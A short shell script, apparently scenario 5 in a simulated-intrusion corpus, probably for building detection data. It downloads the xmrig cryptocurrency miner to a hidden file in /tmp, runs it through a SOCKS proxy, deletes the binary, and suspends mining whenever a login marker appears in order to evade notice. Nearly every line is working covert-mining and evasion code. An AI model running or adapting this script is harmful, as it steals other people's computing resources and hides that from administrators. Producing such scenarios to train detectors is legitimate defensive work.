# 5: deletes itself, goes out through a SOCKS hop, pauses when a login appears: a file that this script puts there and takes away, so that it
# works a third to a half of the time.
. /opt/corpus/scenarios/lib.sh
fetch xmrig /tmp/.perf; chmod +x /tmp/.perf
/tmp/.perf $POOL_ARGS --proxy="$HOST:1080" &
miner=$!; sleep 60; rm -f /tmp/.perf
while kill -0 $miner; do
  touch /tmp/.login; [ -e /tmp/.login ] && kill -STOP $miner; sleep $((10 + RANDOM % 10))
  rm -f /tmp/.login; kill -CONT $miner; sleep $((10 + RANDOM % 12))
done
